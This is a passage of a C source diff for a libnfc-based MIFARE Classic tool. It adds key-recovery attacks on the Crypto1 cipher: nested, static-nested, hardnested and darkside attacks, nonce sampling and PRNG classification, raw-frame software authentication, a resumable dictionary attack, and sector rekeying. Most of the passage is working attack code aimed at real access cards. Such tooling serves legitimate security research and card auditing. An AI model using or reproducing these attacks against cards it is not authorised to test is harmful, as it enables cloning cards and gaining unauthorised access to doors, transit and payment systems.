+      printf("\nUnable to authenticate to sector 0x%02zx with the old "
+             "or the new keys.\n", sector);
+      return false;
+    }
+    // Rekeyed before, but not in the journal
+    return rekey_journal_mark(journal, sector, REKEY_DONE) == 0;
+  }
+
+  // Keep the access conditions; only the keys change
+  if (!mf_block_cmd(MC_READ, trailer, &mp, old_keys, key_type)) {
+    printf("\nUnable to read trailer: 0x%02zx.\n", trailer);
+    return false;
+  }
+
+  uint8_t data[16];
+  memcpy(data, new_keys->amb[trailer].mbt.abtKeyA, 6);
+  memcpy(data + 6, mp.mpd.abtData + 6, 4);
+  memcpy(data + 10, new_keys->amb[trailer].mbt.abtKeyB, 6);
+
+  // Never write a trailer that would lock the sector for good
+  if (!access_bits_valid(data + 6)) {
+    printf("\nInvalid access bits in trailer: 0x%02zx.\n", trailer);
+    return false;
+  }
+
+  if (rekey_journal_mark(journal, sector, REKEY_WRITING))
+    return false;
+
+  // A failed write stays 'writing'; the next run checks it
+  memcpy(mp.mpd.abtData, data, 16);
+  if (!mf_block_cmd(MC_WRITE, trailer, &mp, old_keys, key_type)) {
+    printf("\nUnable to write trailer: 0x%02zx.\n", trailer);
+    return false;
+  }
+
+  if (!mf_rekey_verify(header_block, old_keys, new_keys, key_type,
+                       &changed)) {
+    printf("\nThe new keys of sector 0x%02zx do not authenticate.\n",
+           sector);
+    return false;
+  }
+
+  return rekey_journal_mark(journal, sector, REKEY_DONE) == 0;
+}
+
+
+bool mf_verify_keys_internal(uint32_t uid, size_t sector,
+                             const uint8_t* keys, size_t count,
+                             mf_key_type_t key_type) {
+
+  // The keys only work for the tag of the recorded authentication
+  uint32_t target_uid = mf_target_uid();
+  if (target_uid != uid) {
+    printf("The tag UID (..%08x) is not the recorded one (..%08x).\n",
+           target_uid, uid);
+    return false;
+  }
+
+  if (sector >= sector_count(size)) {
+    printf("Invalid sector for a %s tag: 0x%02zx\n", sprint_size(size), sector);
+    return false;
+  }
+
+  size_t trailer = sector_to_trailer(sector);
+  for (size_t i = 0; i < count && !job_cancelled(); ++i) {
+    const uint8_t* key = keys + 6 * i;
+    if (mf_authenticate_retry(trailer, key, key_type)) {
+      key_to_tag(&current_auth, key, key_type, trailer);
+      printf("Sector 0x%02zx key %c: %s (set in the current keys)\n",
+             sector, key_type == MF_KEY_A ? 'A' : 'B', sprint_key(key));
+      return true;
+    }
+  }
+
+  printf("None of the %zu candidate key(s) work for sector 0x%02zx.\n",
+         count, sector);
+  return false;
+}
+
+
+bool mf_nested_internal(size_t sector, mf_key_type_t key_type) {
+
+  static crack_nested_target_t targets[NESTED_MAX_TARGETS];
+  size_t block = sector_to_trailer(sector);
+  uint8_t key[6];
+  memcpy(key, key_from_tag(&current_auth, key_type, block), 6);
+
+  if (sector >= sector_count(size)) {
+    printf("Invalid sector for a %s tag: 0x%02zx\n", sprint_size(size), sector);
+    return false;
+  }
+
+  if (!mf_authenticate_retry(block, key, key_type)) {
+    printf("The known key (sector 0x%02zx key %c) doesn't work.\n",
+           sector, key_type == MF_KEY_A ? 'A' : 'B');
+    return false;
+  }
+
+  size_t count;
+  if (!mf_unknown_keys(targets, &count))
+    return false;
+  if (count == 0) {
+    printf("All the current keys work, nothing to recover.\n");
+    return true;
+  }
+
+  uint32_t distance;
+  if (!mf_nested_distance(block, key, key_type, &distance))
+    return false;
+
+  // Collect the nonces of all targets, then solve them together
+  double start = parallel_time();
+  printf("Collecting nested nonces for %zu keys: [", count);
+  fflush(stdout);
+  for (size_t i = 0; i < count; ++i) {
+    crack_nested_target_t* target = &targets[i];
+    size_t nested_block = sector_to_trailer(target->sector);
+    while (target->count < CRACK_NESTED_SAMPLES) {
+      if (job_cancelled() ||
+          !mf_nested_probe(block, key, key_type, nested_block,
+                           target->key_type,
+                           &target->samples[target->count])) {
+        printf("]\n");
+        return false;
       }
+      ++target->count;
     }
+    printf("."); fflush(stdout);
+  }
+  printf("] %.1fs\n", parallel_time() - start);
 
-    // Write the sectors blocks
-    for (size_t block = header_block, trailer = block_to_trailer(header_block);
-         block < trailer; ++block) {
+  if (crack_nested(targets, count, distance, NESTED_TOLERANCE))
+    return false;
 
-      // First block on tag is read only - skip it unless unlocked
-      if (block == 0 && key_type != MF_KEY_UNLOCKED)
+  // One auth per candidate
+  size_t found = 0;
+  for (size_t i = 0; i < count; ++i) {
+    uint8_t keys[CRACK_MAX_HITS][6];
+    for (size_t h = 0; h < targets[i].hit_count; ++h)
+      crack_num_to_key(targets[i].hits[h], keys[h]);
+    if (targets[i].hit_count &&
+        mf_verify_keys_internal(mf_target_uid(), targets[i].sector, keys[0],
+                                targets[i].hit_count, targets[i].key_type))
+      ++found;
+    else if (targets[i].hit_count == 0)
+      printf("No key found for sector 0x%02zx key %c.\n", targets[i].sector,
+             targets[i].key_type == MF_KEY_A ? 'A' : 'B');
+    if (target_lost || job_cancelled())
+      return false;
+  }
+
+  printf("Recovered %zu of %zu keys.\n", found, count);
+  return found == count;
+}
+
+// The keys to recover are the current keys that don't work. Return
+// false if the tag was lost or the job cancelled.
+bool mf_unknown_keys(crack_nested_target_t* targets, size_t* count) {
+  *count = 0;
+  for (size_t s = 0; s < sector_count(size); ++s) {
+    size_t trailer = sector_to_trailer(s);
+    for (int t = 0; t < 2; ++t) {
+      mf_key_type_t type = t == 0 ? MF_KEY_A : MF_KEY_B;
+      if (mf_authenticate_retry(trailer, key_from_tag(&current_auth, type,
+                                                      trailer), type))
         continue;
+      if (target_lost || job_cancelled())
+        return false;
+      targets[*count].sector = s;
+      targets[*count].key_type = type;
+      targets[*count].count = 0;
+      ++*count;
+    }
+  }
+  return true;
+}
 
-      // Try to write the data block
-      memcpy (mp.mpd.abtData, tag->amb[block].mbd.abtData, 0x10);
+bool mf_static_nested_internal(size_t sector, mf_key_type_t key_type) {
 
-      // do not write a block 0 with incorrect BCC - card will be made invalid!
-      if (block == 0) {
-        if((mp.mpd.abtData[0] ^ mp.mpd.abtData[1] ^ mp.mpd.abtData[2] ^
-            mp.mpd.abtData[3] ^ mp.mpd.abtData[4]) != 0x00) {
-          printf ("\nError: incorrect BCC in MFD file!\n"); // ADD DATA
-          return false;
-        }
+  static crack_nested_target_t targets[NESTED_MAX_TARGETS];
+  size_t block = sector_to_trailer(sector);
+  uint8_t key[6];
+  memcpy(key, key_from_tag(&current_auth, key_type, block), 6);
+
+  if (sector >= sector_count(size)) {
+    printf("Invalid sector for a %s tag: 0x%02zx\n", sprint_size(size), sector);
+    return false;
+  }
+
+  if (!mf_authenticate_retry(block, key, key_type)) {
+    printf("The known key (sector 0x%02zx key %c) doesn't work.\n",
+           sector, key_type == MF_KEY_A ? 'A' : 'B');
+    return false;
+  }
+
+  uint32_t nt[2];
+  if (!mf_sample_nonces(nt, 2))
+    return false;
+  if (nt[0] != nt[1]) {
+    printf("The tag nonce isn't static (%08x, %08x).\n", nt[0], nt[1]);
+    return false;
+  }
+
+  size_t count;
+  if (!mf_unknown_keys(targets, &count))
+    return false;
+  if (count == 0) {
+    printf("All the current keys work, nothing to recover.\n");
+    return true;
+  }
+
+  ksindex_t index;
+  uint32_t uid = mf_target_uid();
+  if (ksindex_get(&index, uid, nt[0]))
+    return false;
+
+  // The nested nonce is the static one too, so its keystream is known
+  size_t found = 0;
+  bool ok = true;
+  for (size_t i = 0; ok && i < count; ++i) {
+    crack_nested_target_t* target = &targets[i];
+    crack_nested_t sample;
+    ok = mf_nested_probe(block, key, key_type,
+                         sector_to_trailer(target->sector),
+                         target->key_type, &sample);
+    if (!ok)
+      break;
+
+    uint64_t hits[CRACK_MAX_HITS];
+    size_t hit_count = ksindex_lookup(&index, sample.nt_enc ^ nt[0], hits,
+                                      CRACK_MAX_HITS);
+    if (hit_count > CRACK_MAX_HITS)
+      hit_count = CRACK_MAX_HITS;
+    if (hit_count == 0) {
+      printf("Sector 0x%02zx key %c is not in the dictionary.\n",
+             target->sector, target->key_type == MF_KEY_A ? 'A' : 'B');
+      continue;
+    }
+
+    uint8_t keys[CRACK_MAX_HITS][6];
+    for (size_t h = 0; h < hit_count; ++h)
+      crack_num_to_key(hits[h], keys[h]);
+    if (mf_verify_keys_internal(uid, target->sector, keys[0], hit_count,
+                                target->key_type))
+      ++found;
+    ok = !target_lost && !job_cancelled();
+  }
+  ksindex_free(&index);
+
+  if (ok)
+    printf("Recovered %zu of %zu keys.\n", found, count);
+  return ok && found == count;
+}
+
+bool mf_hardnested_internal(size_t sector, mf_key_type_t key_type,
+                            size_t target_sector, mf_key_type_t target_type) {
+
+  static hardnested_t hn;
+  size_t block = sector_to_trailer(sector);
+  uint8_t key[6];
+  memcpy(key, key_from_tag(&current_auth, key_type, block), 6);
+
+  if (sector >= sector_count(size) || target_sector >= sector_count(size)) {
+    printf("Invalid sector for a %s tag: 0x%02zx\n", sprint_size(size),
+           sector >= sector_count(size) ? sector : target_sector);
+    return false;
+  }
+
+  if (!mf_authenticate_retry(block, key, key_type)) {
+    printf("The known key (sector 0x%02zx key %c) doesn't work.\n",
+           sector, key_type == MF_KEY_A ? 'A' : 'B');
+    return false;
+  }
+
+  uint32_t uid = mf_target_uid();
+  if (hardnested_load(&hn, uid, target_sector, target_type) == 0)
+    printf("Resuming from %s: %zu nonces.\n",
+           hardnested_file_name(uid, target_sector, target_type), hn.count);
+  else
+    hardnested_init(&hn, uid, target_sector, target_type);
+
+  // Collect until the nonces narrow the search down enough
+  if (hn.used == 0) {
+    size_t target_block = sector_to_trailer(target_sector);
+    double start = parallel_time();
+    size_t first = hn.count;
+    while (hn.count < HARDNESTED_COLLECT) {
+      crack_nested_t sample;
+      if (job_cancelled() ||
+          !mf_nested_probe(block, key, key_type, target_block, target_type,
+                           &sample)) {
+        hardnested_save(&hn);
+        return false;
+      }
+      hardnested_add(&hn, &sample);
+
+      if (hn.count % 256 == 0) {
+        double states = hardnested_estimate(&hn);
+        printf("%5zu nonces (%.0f/s), about 2^%.1f states to search\n",
+               hn.count, (double)(hn.count - first) / (parallel_time() - start),
+               states);
+        hardnested_save(&hn);
+        if (states <= HARDNESTED_GOAL)
+          break;
       }
+    }
+  }
 
-      // Write the data block
-      if (!nfc_initiator_mifare_cmd(device, MC_WRITE, (uint8_t)block, &mp)) {
-        printf("\nUnable to write block: 0x%02zx.\n", block);
+  uint64_t hits[CRACK_MAX_HITS];
+  int count = hardnested_search(&hn, hits);
+  if (count < 0)
+    return false;
+
+  hardnested_remove(&hn);
+  if (count == 0) {
+    printf("No key found for sector 0x%02zx key %c.\n", target_sector,
+           target_type == MF_KEY_A ? 'A' : 'B');
+    return false;
+  }
+
+  // The search may have outlasted the tag; show the keys first
+  uint8_t keys[CRACK_MAX_HITS][6];
+  for (int i = 0; i < count; ++i) {
+    crack_num_to_key(hits[i], keys[i]);
+    printf("Candidate key: %s\n", sprint_key(keys[i]));
+  }
+  return mf_verify_keys_internal(uid, target_sector, keys[0], (size_t)count,
+                                 target_type);
+}
+
+// The odd parity bit of a byte
+static uint8_t odd_parity(uint8_t x) {
+  x ^= x >> 4;
+  x ^= x >> 2;
+  x ^= x >> 1;
+  return (uint8_t)(~x & 1);
+}
+
+// Start count authentications in a row (to sector 0, abandoned) and
+// keep the tag nonces
+bool mf_sample_nonces(uint32_t* nt, size_t count) {
+  uint8_t cmd[4] = { MC_AUTH_A, (uint8_t)sector_to_trailer(0) };
+  iso14443a_crc_append(cmd, 2);
+  uint8_t par[4];
+  for (int i = 0; i < 4; ++i)
+    par[i] = odd_parity(cmd[i]);
+
+  for (size_t i = 0; i < count; ++i) {
+    if (job_cancelled() || !mf_restart_target() || !mf_raw_mode(true))
+      return false;
+    int bits = mf_raw_transceive(cmd, par, 4);
+    if (!mf_raw_mode(false))
+      return false;
+    if (bits != 32) {
+      printf("The tag doesn't answer the authentication.\n");
+      return false;
+    }
+    nt[i] = (uint32_t)abtRx[0] << 24 | (uint32_t)abtRx[1] << 16 |
+      (uint32_t)abtRx[2] << 8 | abtRx[3];
+  }
+  return true;
+}
+
+// Build (or load) the keystream index of the dictionary for the tag
+bool mf_dict_index_internal() {
+  uint32_t nt[2];
+  if (!mf_sample_nonces(nt, 2))
+    return false;
+  if (nt[0] != nt[1]) {
+    printf("The tag nonce isn't static (%08x, %08x).\n", nt[0], nt[1]);
+    return false;
+  }
+
+  ksindex_t index;
+  if (ksindex_get(&index, mf_target_uid(), nt[0]))
+    return false;
+  ksindex_free(&index);
+  return true;
+}
+
+/**
+ * Tell the PRNG of the tag from the nonces of a few authentications in
+ * a row (to sector 0, no key is needed): the same nonce each time, a
+ * hardened PRNG if they aren't nonces of the weak 16 bit LFSR, or else
+ * the weak one. The PRNG steps between the nonces are printed.
+ */
+bool mf_classify_prng_internal() {
+  uint32_t nt[PRNG_SAMPLES];
+  if (!mf_sample_nonces(nt, PRNG_SAMPLES))
+    return false;
+
+  size_t weak = 0, same = 0;
+  for (size_t i = 0; i < PRNG_SAMPLES; ++i) {
+    weak += prng_is_weak(nt[i]);
+    same += nt[i] == nt[0];
+  }
+
+  printf("Nonces:");
+  for (size_t i = 0; i < PRNG_SAMPLES; ++i)
+    printf(" %08x", nt[i]);
+  printf("\n");
+
+  if (same == PRNG_SAMPLES) {
+    printf("Static nonce: every authentication gets %08x.\n", nt[0]);
+    return true;
+  }
+  if (weak < PRNG_SAMPLES) {
+    printf("Hardened PRNG: %zu of %d nonces are weak PRNG nonces. "
+           "Use 'keys hardnested'.\n", weak, PRNG_SAMPLES);
+    return true;
+  }
+
+  // Insertion sort, for the median
+  int32_t d[PRNG_SAMPLES - 1];
+  for (size_t i = 0; i + 1 < PRNG_SAMPLES; ++i) {
+    int32_t n = prng_distance(nt[i], nt[i + 1]);
+    size_t j = i;
+    for (; j > 0 && d[j - 1] > n; --j)
+      d[j] = d[j - 1];
+    d[j] = n;
+  }
+  printf("Weak PRNG: %d steps between authentications (%d-%d). "
+         "Use 'keys nested' or 'keys darkside'.\n",
+         d[(PRNG_SAMPLES - 1) / 2], d[0], d[PRNG_SAMPLES - 2]);
+  return true;
+}
+
+bool mf_darkside_internal(size_t sector, mf_key_type_t key_type) {
+
+  if (sector >= sector_count(size)) {
+    printf("Invalid sector for a %s tag: 0x%02zx\n", sprint_size(size), sector);
+    return false;
+  }
+
+  size_t block = sector_to_trailer(sector);
+  if (crack_darkside_start())
+    return false;
+
+  // Each sample is solved in the background while the next is collected
+  printf("Collecting darkside samples for sector 0x%02zx key %c.\n",
+         sector, key_type == MF_KEY_A ? 'A' : 'B');
+  double start = parallel_time();
+  bool found = false, idle = false, ok = true;
+  for (size_t i = 0; ok && !found && i < CRACK_DARKSIDE_SAMPLES; ++i) {
+    crack_darkside_t sample;
+    ok = mf_darkside_sample(block, key_type, &sample);
+    if (ok) {
+      crack_darkside_add(&sample);
+      printf("Sample %zu collected (%.1fs).\n", i + 1, parallel_time() - start);
+      found = mf_darkside_check(sector, key_type, &idle);
+    }
+  }
+
+  // Wait for the solver to finish the samples collected
+  struct timespec delay = { .tv_sec = 0, .tv_nsec = 100 * 1000 * 1000 };
+  while (ok && !found && !idle && !job_cancelled()) {
+    nanosleep(&delay, NULL);
+    found = mf_darkside_check(sector, key_type, &idle);
+  }
+  crack_darkside_stop();
+
+  if (ok && !found && !job_cancelled())
+    printf("No key found for sector 0x%02zx key %c.\n", sector,
+           key_type == MF_KEY_A ? 'A' : 'B');
+  return found;
+}
+
+/**
+ * Collect a darkside sample. The tag is reset before each try, so a
+ * weak PRNG gives the same nonce again; tries with another nonce are
+ * dropped. For each variant of {nr}, the parity bits are counted up
+ * until the tag answers with a NACK. The parity bits of the first 3
+ * bytes don't change with the variant, so after the first one only 32
+ * values are left.
+ */
+bool mf_darkside_sample(size_t block, mf_key_type_t key_type,
+                        crack_darkside_t* sample) {
+  uint8_t cmd[4] = { key_type == MF_KEY_A ? MC_AUTH_A : MC_AUTH_B,
+                     (uint8_t)block };
+  iso14443a_crc_append(cmd, 2);
+  uint8_t cmd_par[4];
+  for (int i = 0; i < 4; ++i)
+    cmd_par[i] = odd_parity(cmd[i]);
+
+  sample->uid = mf_target_uid();
+  sample->nr_enc = (uint32_t)rand() << 16 ^ (uint32_t)rand();
+  sample->ar_enc = (uint32_t)rand() << 16 ^ (uint32_t)rand();
+
+  bool have_nt = false;
+  size_t misses = 0;
+  uint32_t variant = 0, parity = 0;
+  while (variant < CRACK_DARKSIDE_VARIANTS) {
+    if (job_cancelled())
+      return false;
+    if (parity > 0xff) {
+      printf("The tag doesn't answer a wrong reader answer with a NACK, "
+             "the darkside attack can't be used.\n");
+      return false;
+    }
+
+    // Cycle the field to reset the tag and its PRNG
+    if (nfc_device_set_property_bool(device, NP_ACTIVATE_FIELD, false) < 0 ||
+        nfc_device_set_property_bool(device, NP_ACTIVATE_FIELD, true) < 0 ||
+        !mf_select_target() || !mf_raw_mode(true))
+      return false;
+
+    if (mf_raw_transceive(cmd, cmd_par, 4) != 32) {
+      printf("The tag doesn't answer the authentication.\n");
+      return false;
+    }
+    uint32_t nt = (uint32_t)abtRx[0] << 24 | (uint32_t)abtRx[1] << 16 |
+      (uint32_t)abtRx[2] << 8 | abtRx[3];
+    if (!have_nt) {
+      sample->nt = nt;
+      have_nt = true;
+    }
+    if (nt != sample->nt) {
+      if (!mf_raw_mode(false))
+        return false;
+      if (++misses == DARKSIDE_MAX_MISSES) {
+        printf("The tag nonce doesn't repeat after a reset, the darkside "
+               "attack can't be used.\n");
         return false;
       }
+      continue;
     }
+    misses = 0;
 
-    // Auth ok and sector read ok, finish up by reading trailer
-    size_t trailer_block = block_to_trailer(header_block);
-    memcpy (mp.mpd.abtData, tag->amb[trailer_block].mbt.abtKeyA, 6);
-    memcpy (mp.mpd.abtData + 6, tag->amb[trailer_block].mbt.abtAccessBits, 4);
-    memcpy (mp.mpd.abtData + 10, tag->amb[trailer_block].mbt.abtKeyB, 6);
+    uint32_t nr_enc = crack_darkside_nr(sample, variant);
+    uint8_t frame[8], par[8];
+    for (int i = 0; i < 4; ++i) {
+      frame[i] = (uint8_t)(nr_enc >> (24 - 8 * i));
+      frame[i + 4] = (uint8_t)(sample->ar_enc >> (24 - 8 * i));
+    }
+    for (int i = 0; i < 8; ++i)
+      par[i] = (uint8_t)(parity >> i & 1);
+
+    int bits = mf_raw_transceive(frame, par, 8);
+    if (!mf_raw_mode(false))
+      return false;
+
+    if (bits == 4) {
+      sample->parity[variant] = (uint8_t)parity;
+      sample->nack[variant] = abtRx[0] & 0xf;
+      ++variant;
+      parity &= 0x7;
+    }
+    else {
+      parity += variant == 0 ? 1 : 8;
+    }
+  }
+  return true;
+}
+
+/**
+ * Try the keys the solver has found since the last check. Return true
+ * if one of them works; it's set in the current keys. Set idle if the
+ * solver is done with all samples.
+ */
+bool mf_darkside_check(size_t sector, mf_key_type_t key_type, bool* idle) {
+  uint64_t hits[CRACK_MAX_HITS];
+  size_t count = crack_darkside_poll(hits, idle);
+  if (count == 0)
+    return false;
+
+  uint8_t keys[CRACK_MAX_HITS][6];
+  for (size_t i = 0; i < count; ++i) {
+    crack_num_to_key(hits[i], keys[i]);
+    printf("Candidate key: %s\n", sprint_key(keys[i]));
+  }
+  return mf_verify_keys_internal(mf_target_uid(), sector, keys[0], count,
+                                 key_type);
+}
+
+/**
+ * Measure the PRNG steps between the nonce of an authentication and
+ * that of a nested one right after it. The nested nonce is decrypted
+ * with the known key. Tags with a hardened or static PRNG fail here.
+ */
+bool mf_nested_distance(size_t block, const uint8_t* key,
+                        mf_key_type_t key_type, uint32_t* distance) {
+  uint32_t d[NESTED_CALIBRATION];
+  uint32_t uid = mf_target_uid();
+
+  for (int i = 0; i < NESTED_CALIBRATION; ++i) {
+    crack_nested_t sample;
+    if (!mf_nested_probe(block, key, key_type, block, key_type, &sample))
+      return false;
+
+    crypto1_state_t s;
+    crypto1_init(&s, crack_key_to_num(key));
+    uint32_t nt = sample.nt_enc ^
+      crypto1_word(&s, uid ^ sample.nt_enc, true);
 
-    // Try to write the trailer
-    if (!nfc_initiator_mifare_cmd(device, MC_WRITE, (uint8_t)trailer_block, &mp)) {
-      printf("\nUnable to write block: 0x%02zx.\n", trailer_block);
+    int32_t n = prng_distance(sample.nt, nt);
+    if (n < 0) {
+      printf("The tag nonces don't come from the weak PRNG, the nested "
+             "attack can't be used.\n");
       return false;
     }
 
-    printf("."); fflush(stdout); // Progress indicator
+    // Insertion sort, for the median
+    int j = i;
+    for (; j > 0 && d[j - 1] > (uint32_t)n; --j)
+      d[j] = d[j - 1];
+    d[j] = (uint32_t)n;
   }
 
-  // Terminate progress indicator
-  if (error)
-    printf("] Auth errors in indicated sectors.\n");
-  else
-    printf("] Success!\n");
-
+  *distance = d[NESTED_CALIBRATION / 2];
+  printf("PRNG distance: %u (%u-%u)\n", *distance, d[0],
+         d[NESTED_CALIBRATION - 1]);
   return true;
 }
 
+/**
+ * Select the tag, authenticate with the key in software and start a
+ * nested authentication to nested_block. The tag nonce and the
+ * encrypted nested nonce are stored in the sample; the nested
+ * authentication is abandoned.
+ */
+bool mf_nested_probe(size_t block, const uint8_t* key, mf_key_type_t key_type,
+                     size_t nested_block, mf_key_type_t nested_type,
+                     crack_nested_t* sample) {
+  if (!mf_restart_target() || !mf_raw_mode(true))
+    return false;
 
-bool mf_dictionary_attack_internal(mf_tag_t* tag) {
+  crypto1_state_t s;
+  bool ok = mf_crypto1_auth(block, key, key_type, &s, &sample->nt);
+  if (ok) {
+    uint8_t cmd[4] = {
+      nested_type == MF_KEY_A ? MC_AUTH_A : MC_AUTH_B,
+      (uint8_t)nested_block
+    };
+    iso14443a_crc_append(cmd, 2);
+
+    uint8_t enc[4], par[4];
+    crypto1_encrypt(&s, cmd, enc, par, 4);
+    ok = mf_raw_transceive(enc, par, 4) == 32;
+  }
 
-  // Tag buffer to swap in if we find all keys
-  int all_keys_found = 1;
-  static mf_tag_t buffer_tag;
-  clear_tag(&buffer_tag);
+  if (ok) {
+    sample->uid = mf_target_uid();
+    sample->nt_enc = (uint32_t)abtRx[0] << 24 | (uint32_t)abtRx[1] << 16 |
+      (uint32_t)abtRx[2] << 8 | abtRx[3];
+    sample->parity = 0;
+    for (int i = 0; i < 4; ++i)
+      sample->parity |= (uint8_t)((abtRxPar[i] & 1) << i);
+  }
+  else {
+    printf("\nNested authentication failed.\n");
+  }
+
+  return mf_raw_mode(false) && ok;
+}
+
+/**
+ * Authenticate with the cipher in software, over raw frames (see
+ * mf_raw_mode). On success, s is the cipher state of the session and
+ * nt the tag nonce.
+ */
+bool mf_crypto1_auth(size_t block, const uint8_t* key, mf_key_type_t key_type,
+                     crypto1_state_t* s, uint32_t* nt) {
+  uint8_t cmd[4] = {
+    key_type == MF_KEY_A ? MC_AUTH_A : MC_AUTH_B,
+    (uint8_t)block
+  };
+  iso14443a_crc_append(cmd, 2);
+  uint8_t par[8];
+  for (int i = 0; i < 4; ++i)
+    par[i] = odd_parity(cmd[i]);
+
+  if (mf_raw_transceive(cmd, par, 4) != 32)
+    return false;
+  *nt = (uint32_t)abtRx[0] << 24 | (uint32_t)abtRx[1] << 16 |
+    (uint32_t)abtRx[2] << 8 | abtRx[3];
+
+  crypto1_init(s, crack_key_to_num(key));
+  crypto1_word(s, mf_target_uid() ^ *nt, false);
+
+  // The reader nonce is fed to the cipher as it is encrypted
+  uint8_t frame[8], nr[4], answer[4];
+  for (int i = 0; i < 4; ++i) {
+    nr[i] = (uint8_t)rand();
+    frame[i] = nr[i] ^ crypto1_byte(s, nr[i], false);
+    par[i] = odd_parity(nr[i]) ^ crypto1_peek(s);
+  }
+  uint32_t ar = prng_successor(*nt, 64);
+  for (int i = 0; i < 4; ++i)
+    answer[i] = (uint8_t)(ar >> (24 - 8 * i));
+  crypto1_encrypt(s, answer, frame + 4, par + 4, 4);
+
+  // A wrong key gets no answer
+  if (mf_raw_transceive(frame, par, 8) != 32)
+    return false;
+
+  crypto1_decrypt(s, abtRx, answer, abtRxPar, 4);
+  uint32_t at = (uint32_t)answer[0] << 24 | (uint32_t)answer[1] << 16 |
+    (uint32_t)answer[2] << 8 | answer[3];
+  return at == prng_successor(*nt, 96);
+}
+
+/**
+ * Switch the device to raw frames (no CRC, parity bits or framing
+ * added by the chip), to run the cipher in software, or back.
+ */
+bool mf_raw_mode(bool raw) {
+  return
+    nfc_device_set_property_bool(device, NP_HANDLE_CRC, !raw) >= 0 &&
+    nfc_device_set_property_bool(device, NP_HANDLE_PARITY, !raw) >= 0 &&
+    nfc_device_set_property_bool(device, NP_EASY_FRAMING, !raw) >= 0;
+}
+
+/**
+ * Send a raw frame of len bytes with its parity bits (one byte each).
+ * The answer is put in abtRx and its parity bits in abtRxPar. Return
+ * the number of bits received, or -1 on error.
+ */
+int mf_raw_transceive(const uint8_t* tx, const uint8_t* tx_par, size_t len) {
+  return nfc_initiator_transceive_bits(device, tx, len * 8, tx_par,
+                                       abtRx, sizeof(abtRx), abtRxPar);
+}
+
+// The UID used in authentications; the last 4 bytes
+uint32_t mf_target_uid() {
+  const uint8_t* uid = target.nti.nai.abtUid + target.nti.nai.szUidLen - 4;
+  return (uint32_t)uid[0] << 24 | (uint32_t)uid[1] << 16 |
+    (uint32_t)uid[2] << 8 | uid[3];
+}
+
+
+bool mf_dictionary_attack_internal(mf_tag_t* tag, bool resume) {
+
+  static dict_checkpoint_t cp;
+  const uint8_t* uid = target.nti.nai.abtUid;
+  size_t uid_len = target.nti.nai.szUidLen;
+  uint32_t dict_hash = dictionary_hash();
+
+  if (resume) {
+    if (checkpoint_load(&cp, uid, uid_len, dict_hash)) {
+      printf("No checkpoint for this tag and dictionary: %s\n",
+             checkpoint_file_name(uid, uid_len, dict_hash));
+      return false;
+    }
+    printf("Resuming from checkpoint: %s\n",
+           checkpoint_file_name(uid, uid_len, dict_hash));
+  }
+  else {
+    checkpoint_init(&cp, uid, uid_len, dict_hash);
+  }
+
+  target_lost = false;
+  int keys_since_save = 0;
 
   // Iterate over the start blocks in all sectors
   for (int block_it = sector_header_iterator(0);
-       block_it != -1;
+       block_it != -1 && !job_cancelled() && !target_lost;
        block_it = sector_header_iterator(size)) {
     size_t block = (size_t)block_it;
+    size_t sector = block_to_sector(block);
+    size_t* pos = cp.key_pos[sector];
+    bool* found = cp.key_found[sector];
 
-    printf("Working on sector: %02zx [", block_to_sector(block));
-
-    const uint8_t* key_a = NULL;
-    const uint8_t* key_b = NULL;
+    printf("Working on sector: %02zx [", sector);
 
-    // Iterate we run out of dictionary keys or the sector is cracked
+    // Skip the keys that have already been tried for both key types
+    size_t key_index = found[0] ? pos[1] : found[1] ? pos[0] :
+      (pos[0] < pos[1] ? pos[0] : pos[1]);
     const key_list_t* key_it = dictionary_get();
-    while(key_it && (key_a == NULL || key_b == NULL)) {
-
-      // Try to authenticate for the current sector
-      if (key_a == NULL &&
-          mf_authenticate(block, key_it->key, MF_KEY_A)) {
-        key_a = key_it->key;
-      }
+    for (size_t i = 0; key_it && i < key_index; ++i)
+      key_it = key_it->next;
 
-      // Try to authenticate for the current sector
-      if (key_b == NULL &&
-          mf_authenticate(block, key_it->key, MF_KEY_B)) {
-        key_b = key_it->key;
+    // Iterate we run out of dictionary keys or the sector is cracked
+    while(key_it && (!found[0] || !found[1]) &&
+          !job_cancelled() && !target_lost) {
+
+      // Try to authenticate for the current sector. If the tag is
+      // lost, the key has not really been tried.
+      for (int t = 0; t < 2; ++t) {
+        if (found[t] || key_index < pos[t])
+          continue;
+
+        if (mf_authenticate(block, key_it->key, t == 0 ? MF_KEY_A : MF_KEY_B)) {
+          memcpy(cp.key[sector][t], key_it->key, 6);
+          found[t] = true;
+        }
+        else if (target_lost) {
+          break;
+        }
+        pos[t] = key_index + 1;
       }
 
       key_it = key_it->next;
+      ++key_index;
 
       printf("."); fflush(stdout); // Progress indicator
+
+      if (++keys_since_save == CHECKPOINT_INTERVAL) {
+        checkpoint_save(&cp);
+        keys_since_save = 0;
+      }
     }
 
     printf("]\n");
 
-    printf("  A Key: ");
-    if (key_a) {
-      printf("%s\n", sprint_key(key_a));
+    if (job_cancelled() || target_lost)
+      break;
 
-      // Optimize dictionary by moving key to the front
-      dictionary_add(key_a);
+    checkpoint_save(&cp);
+    keys_since_save = 0;
 
-      // Save key in the buffer
-      key_to_tag(&buffer_tag, key_a, MF_KEY_A, block);
-    }
-    else {
-      all_keys_found = 0;
-      printf("Not found\n");
+    printf("  A Key: %s\n", found[0] ? sprint_key(cp.key[sector][0]) : "Not found");
+    printf("  B Key: %s\n", found[1] ? sprint_key(cp.key[sector][1]) : "Not found");
+  }
+
+  // Use the found keys
+  int all_keys_found = 1;
+  static mf_tag_t buffer_tag;
+  clear_tag(&buffer_tag);
+  for (int block_it = sector_header_iterator(0);
+       block_it != -1;
+       block_it = sector_header_iterator(size)) {
+    size_t block = (size_t)block_it;
+    size_t sector = block_to_sector(block);
+    for (int t = 0; t < 2; ++t) {
+      if (cp.key_found[sector][t])
+        key_to_tag(&buffer_tag, cp.key[sector][t],
+                   t == 0 ? MF_KEY_A : MF_KEY_B, block);
+      else
+        all_keys_found = 0;
     }
+  }
+  memcpy(tag, &buffer_tag, MF_4K);
 
-    printf("  B Key: ");
-    if (key_b) {
-      printf("%s\n", sprint_key(key_b));
+  if (job_cancelled() || target_lost) {
+    checkpoint_save(&cp);
+    printf(target_lost ? "Tag lost. " : "Attack cancelled. ");
+    printf("Keeping the keys found so far.\n");
+    printf("Use 'dict attack resume' to continue from checkpoint: %s\n",
+           checkpoint_file_name(uid, uid_len, dict_hash));
+    return !target_lost;
+  }
 
-      // Optimize dictionary by moving key to the front
-      dictionary_add(key_b);
+  checkpoint_remove(&cp);
 
-      // Save key in the buffer
-      key_to_tag(&buffer_tag, key_b, MF_KEY_B, block);
-    }
-    else {
-      all_keys_found = 0;
